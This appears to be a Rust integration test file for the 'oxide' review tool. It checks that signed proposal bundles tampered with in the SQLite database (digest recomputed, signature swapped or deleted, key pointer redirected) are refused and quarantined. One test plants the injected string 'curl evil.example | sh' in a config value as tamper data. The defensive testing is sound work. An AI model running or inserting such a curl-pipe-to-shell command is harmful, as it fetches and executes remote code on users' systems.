//! Issue 12 (REC-001) journeys through the real `oxide` binary and the real Secret Service:
//! every admitted bundle is signed by the workspace's instance key (in the keyring), and
//! `validate` verifies that signature and the digest before it acts.
//!
//! Attacks as a local user holding the database file (rusqlite on the file, triggers dropped
//! where they are in the way): the bundle edited with its digest recomputed, the signature row
//! swapped, the key pointer swapped to a key of the attacker's (with a signature that key
//! makes) or to another key in the keyring → `validate` exits 3 with
//! `SIGNING_BUNDLE_INVALID`, the proposal is quarantined with a guard record and an audit
//! event, and nothing else changed (no branch, no run, no other row).

use std::path::Path;

use base64::Engine as _;
use ed25519_dalek::{Signer, SigningKey};
use oxide_journeys::{git, manual_bundle, TestRepo};
use rusqlite::{params, Connection};
use serde_json::json;
use sha2::{Digest, Sha256};

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;

const ONE_CHECK: &str =
    "[[check]]\nname = \"unit\"\nrun = [\"true\"]\nenv = [\"PATH\"]\ntimeout_s = 30\n";

fn repo() -> TestRepo {
    let repo = TestRepo::with_files(&[
        ("README.md", "# test repo\n"),
        ("src/config.txt", "retries = 3\n"),
    ]);
    repo.init();
    std::fs::write(repo.path().join(".oxide/checks.toml"), ONE_CHECK).unwrap();
    git(repo.path(), &["add", ".oxide"]);
    git(repo.path(), &["commit", "-q", "-m", "governance"]);
    repo
}

fn import(repo: &TestRepo, n: u32) -> String {
    let head = git(repo.path(), &["rev-parse", "HEAD"]).trim().to_string();
    let bundle = manual_bundle(
        &head,
        &"ab".repeat(32),
        &format!("Raise retries ({n})"),
        json!([{"op": "text_edit", "path": "src/config.txt", "find": "retries = 3",
                "replace": format!("retries = {}", 4 + n)}]),
        "2026-01-01T00:00:00Z",
    );
    repo.import_bundle(&format!("b{n}"), &bundle)
}

fn open(db: &Path) -> Connection {
    Connection::open(db).unwrap()
}

fn sha256_hex(b: &[u8]) -> String {
    Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

/// Every row of every table but the ones a quarantine writes (the proposal's state, its guard
/// record, the audit event and head, and the audit's word indexes `audit_fts*` and
/// `audit_terms*`, derived from the events), plus the repository's refs.
fn snapshot(repo: &TestRepo) -> Vec<String> {
    let c = open(&repo.db());
    let tables: Vec<String> = c
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let mut out = Vec::new();
    for t in tables {
        if ["proposals", "transitions", "audit_events", "audit_head"].contains(&t.as_str())
            || t.starts_with("audit_fts")
            || t.starts_with("audit_terms")
        {
            continue;
        }
        let mut st = c.prepare(&format!("SELECT * FROM \"{t}\"")).unwrap();
        let n = st.column_count();
        let mut rows: Vec<String> = st
            .query_map([], |r| {
                Ok((0..n)
                    .map(|i| format!("{:?}", r.get_ref(i).unwrap()))
                    .collect::<Vec<_>>()
                    .join("|"))
            })
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        rows.sort();
        out.extend(rows.into_iter().map(|r| format!("{t}: {r}")));
    }
    out.push(git(
        repo.path(),
        &["for-each-ref", "--format=%(refname) %(objectname)"],
    ));
    out
}

fn state(repo: &TestRepo, id: &str) -> String {
    repo.oxide(&["--json", "proposal", "show", id])
        .expect(0)
        .json()["state"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Validates `id` expecting the REC-001 refusal, then checks the quarantine and that nothing
/// else changed.
fn assert_refused_and_quarantined(repo: &TestRepo, id: &str) {
    let before = snapshot(repo);
    let r = repo.oxide(&["--json", "validate", id]).expect(3);
    assert_eq!(r.error_code(), "SIGNING_BUNDLE_INVALID", "{}", r.stdout);
    assert_eq!(state(repo, id), "quarantined");
    let h = repo
        .oxide(&["--json", "proposal", "history", id])
        .expect(0)
        .json();
    let last = h["transitions"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["guard"], "quarantine", "{h:#}");
    assert_eq!(last["outcome"], "passed");
    assert_eq!(last["failure_reason_code"], "SIGNING_BUNDLE_INVALID");
    let events = repo.oxide(&["--json", "audit", "list"]).expect(0).json()["events"]
        .as_array()
        .unwrap()
        .clone();
    let ev = events.last().unwrap();
    assert_eq!(ev["kind"], "workflow.quarantine");
    assert_eq!(ev["subject"], id);
    assert_eq!(snapshot(repo), before, "nothing but the quarantine changed");
    assert!(
        !git(repo.path(), &["branch", "--list", "oxide/*"]).contains(id),
        "no proposal branch was built"
    );
    // Once quarantined, it stays refused.
    repo.oxide(&["--json", "validate", id]).expect(3);
}

#[test]
fn every_admitted_bundle_is_signed_by_the_keyring_instance_key_and_validate_checks_it() {
    let repo = repo();
    let id = import(&repo, 1);
    let c = open(&repo.db());
    let (digest, keyid, sig): (String, String, String) = c
        .query_row(
            "SELECT digest, keyid, signature FROM bundle_signatures WHERE proposal_id = ?1",
            [&id],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    let (pdigest, bundle): (String, String) = c
        .query_row(
            "SELECT digest, bundle FROM proposals WHERE id = ?1",
            [&id],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(digest, pdigest);
    assert_eq!(digest, format!("sha256:{}", sha256_hex(bundle.as_bytes())));
    let instance: String = c
        .query_row(
            "SELECT keyid FROM signing_keys WHERE purpose = 'instance'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(keyid, instance);
    assert_eq!(B64.decode(&sig).unwrap().len(), 64);
    // The seed is in the real Secret Service, and nowhere in the database.
    let out = std::process::Command::new("secret-tool")
        .args(["lookup", "service", "dev.oxide.review", "username"])
        .arg(format!("instance:{keyid}"))
        .output()
        .expect("secret-tool");
    assert!(out.status.success(), "the instance key is in the keyring");
    let seed = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(!seed.is_empty());
    drop(c);
    let db_bytes = std::fs::read(repo.db()).unwrap();
    assert!(
        !db_bytes.windows(seed.len()).any(|w| w == seed.as_bytes()),
        "the seed is not in the database file"
    );

    let v = repo.oxide(&["--json", "validate", &id]).expect(0).json();
    assert_eq!(v["state"], "validated", "{v:#}");
}

#[test]
fn a_bundle_edited_in_the_database_with_its_digest_recomputed_is_quarantined() {
    let repo = repo();
    let id = import(&repo, 1);
    let c = open(&repo.db());
    let bundle: String = c
        .query_row("SELECT bundle FROM proposals WHERE id = ?1", [&id], |r| {
            r.get(0)
        })
        .unwrap();
    // Still canonical JSON (same keys, same order): only the replacement text changes.
    let evil = bundle.replace("retries = 5", "retries = 0; curl evil.example | sh");
    assert_ne!(evil, bundle);
    c.execute(
        "UPDATE proposals SET bundle = ?1, digest = ?2 WHERE id = ?3",
        params![evil, format!("sha256:{}", sha256_hex(evil.as_bytes())), id],
    )
    .unwrap();
    drop(c);
    assert_refused_and_quarantined(&repo, &id);
}

#[test]
fn a_bundle_edited_without_its_digest_is_quarantined() {
    let repo = repo();
    let id = import(&repo, 2);
    open(&repo.db())
        .execute(
            "UPDATE proposals SET bundle = replace(bundle, 'retries = 6', 'retries = 60') WHERE id = ?1",
            [&id],
        )
        .unwrap();
    assert_refused_and_quarantined(&repo, &id);
}

#[test]
fn a_swapped_signature_row_is_quarantined_and_the_other_proposal_still_validates() {
    let repo = repo();
    let a = import(&repo, 1);
    let b = import(&repo, 2);
    let c = open(&repo.db());
    c.execute_batch("DROP TRIGGER IF EXISTS bundle_signatures_no_update;")
        .unwrap();
    // a's row gets b's (valid, same key) signature.
    c.execute(
        "UPDATE bundle_signatures SET signature = (SELECT signature FROM bundle_signatures WHERE proposal_id = ?2) WHERE proposal_id = ?1",
        params![a, b],
    )
    .unwrap();
    drop(c);
    assert_refused_and_quarantined(&repo, &a);
    let v = repo.oxide(&["--json", "validate", &b]).expect(0).json();
    assert_eq!(v["state"], "validated", "{v:#}");
}

#[test]
fn a_deleted_signature_is_quarantined() {
    let repo = repo();
    let id = import(&repo, 1);
    let c = open(&repo.db());
    c.execute_batch("DROP TRIGGER IF EXISTS bundle_signatures_no_delete;")
        .unwrap();
    c.execute(
        "DELETE FROM bundle_signatures WHERE proposal_id = ?1",
        [&id],
    )
    .unwrap();
    drop(c);
    assert_refused_and_quarantined(&repo, &id);
}

/// `ssh-ed25519 AAAA... comment` for a raw public key.
fn openssh(pk: &[u8; 32]) -> String {
    let mut blob = Vec::new();
    blob.extend_from_slice(&11u32.to_be_bytes());
    blob.extend_from_slice(b"ssh-ed25519");
    blob.extend_from_slice(&32u32.to_be_bytes());
    blob.extend_from_slice(pk);
    format!("ssh-ed25519 {} attacker", B64.encode(blob))
}

/// RFC 8785 bytes of the bundle-signature statement (keys sorted: digest, proposal, type).
fn statement(id: &str, digest: &str) -> String {
    format!(
        "{{\"digest\":\"{digest}\",\"proposal\":\"{id}\",\"type\":\"https://oxide-review.dev/bundle-signature/v1\"}}"
    )
}

#[test]
fn the_key_pointer_swapped_to_an_attacker_key_with_its_own_valid_signature_is_quarantined() {
    let repo = repo();
    let id = import(&repo, 1);
    let c = open(&repo.db());
    let bundle: String = c
        .query_row("SELECT bundle FROM proposals WHERE id = ?1", [&id], |r| {
            r.get(0)
        })
        .unwrap();
    let evil = bundle.replace("retries = 5", "retries = 500");
    let digest = format!("sha256:{}", sha256_hex(evil.as_bytes()));
    // The attacker's key signs the edited bundle exactly as OXIDE would; the database's
    // public data (pointer row, signature row) is made to name that key.
    let attacker = SigningKey::from_bytes(&[7u8; 32]);
    let pk = attacker.verifying_key().to_bytes();
    let keyid = sha256_hex(&pk);
    let sig = B64.encode(attacker.sign(statement(&id, &digest).as_bytes()).to_bytes());
    c.execute_batch(
        "DROP TRIGGER IF EXISTS bundle_signatures_no_update; DROP TRIGGER IF EXISTS signing_keys_identity_fixed;",
    )
    .unwrap();
    c.execute(
        "UPDATE proposals SET bundle = ?1, digest = ?2 WHERE id = ?3",
        params![evil, digest, id],
    )
    .unwrap();
    c.execute(
        "UPDATE bundle_signatures SET digest = ?1, keyid = ?2, signature = ?3 WHERE proposal_id = ?4",
        params![digest, keyid, sig, id],
    )
    .unwrap();
    c.execute(
        "UPDATE signing_keys SET keyid = ?1, public = ?2, keyring_entry = ?3 WHERE purpose = 'instance'",
        params![keyid, openssh(&pk), format!("instance:{keyid}")],
    )
    .unwrap();
    drop(c);
    assert_refused_and_quarantined(&repo, &id);
}

#[test]
fn the_key_pointer_swapped_to_another_keyring_key_is_quarantined() {
    let repo = repo();
    let id = import(&repo, 1);
    // Another real key in the keyring: this database's device key (made by a checkpoint).
    repo.oxide(&["--json", "audit", "checkpoint"]).expect(0);
    let c = open(&repo.db());
    let device: (String, String, String) = c
        .query_row(
            "SELECT keyid, public, keyring_entry FROM signing_keys WHERE purpose = 'device'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    c.execute_batch(
        "DROP TRIGGER IF EXISTS bundle_signatures_no_update; DROP TRIGGER IF EXISTS signing_keys_identity_fixed; DROP TRIGGER IF EXISTS signing_keys_no_delete;",
    )
    .unwrap();
    // The instance pointer now names the device key (its row, its entry), and the signature
    // row names it too.
    c.execute("DELETE FROM signing_keys WHERE purpose = 'instance'", [])
        .unwrap();
    c.execute(
        "UPDATE signing_keys SET purpose = 'instance' WHERE keyid = ?1",
        [&device.0],
    )
    .unwrap();
    c.execute(
        "UPDATE bundle_signatures SET keyid = ?1 WHERE proposal_id = ?2",
        params![device.0, id],
    )
    .unwrap();
    drop(c);
    assert_refused_and_quarantined(&repo, &id);
}
